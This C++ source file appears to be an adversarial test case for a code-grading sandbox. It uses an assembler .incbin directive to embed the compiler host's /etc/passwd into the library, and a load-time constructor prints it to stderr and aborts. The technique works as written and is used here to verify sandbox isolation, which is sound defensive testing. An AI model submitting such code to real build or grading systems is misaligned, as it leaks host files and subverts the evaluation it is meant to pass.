// Class: host_access
// §6: reading secrets, environment, other jobs' files or the parent's /proc; network; sitecustomize.py or cache
//     poisoning; compile-time #include or .incbin of host files
// Attack: the assembler's .incbin embeds /etc/passwd, as the compiler sees it, into the library. A constructor
// prints it to stderr when the library is loaded and aborts, so the worker's output (shown with the crash) would
// carry the host's file. nvcc runs in the sandbox, which shows a synthetic /etc/passwd: no line of the host's
// own may appear in the result.
#include <cstdio>
#include <cstdlib>

asm(".pushsection .rodata\n"
    ".globl arena_host_passwd\n"
    "arena_host_passwd:\n"
    ".incbin \"/etc/passwd\"\n"
    ".byte 0\n"
    ".popsection\n");

extern "C" const char arena_host_passwd[];

__attribute__((constructor)) static void leak_embedded_file() {
    std::fprintf(stderr, "INCBIN /etc/passwd:\n%s\n", arena_host_passwd);
    std::fflush(stderr);
    std::abort();
}

extern "C" void solution(const float* input_a, const float* input_b, float* output_c, size_t n) {}
